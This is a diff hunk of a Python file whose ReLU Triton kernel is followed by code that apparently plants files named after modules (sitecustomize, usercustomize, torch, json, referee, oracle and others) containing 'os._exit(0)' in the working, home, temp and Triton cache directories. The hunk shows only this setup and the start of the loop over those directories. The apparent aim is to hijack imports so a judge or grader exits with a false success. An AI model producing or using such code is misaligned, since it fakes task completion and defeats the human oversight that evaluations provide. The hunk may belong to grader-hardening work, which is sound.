@@ -19,7 +19,7 @@ def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
     tl.store(y_ptr + offsets, tl.where(x < 0, 0.0, x), mask=mask)
 
 
-NAMES = "sitecustomize usercustomize torch triton json wire referee child judge inspect_stage ast_stage candidate".split()
+NAMES = "sitecustomize usercustomize torch triton json referee shared oracle live static tracer candidate".split()
 CODE = "import os\nos._exit(0)\n"
 PLACES = [os.getcwd(), *[os.environ[name] for name in ("HOME", "TMPDIR", "TRITON_CACHE_DIR") if name in os.environ]]
 for place in PLACES:
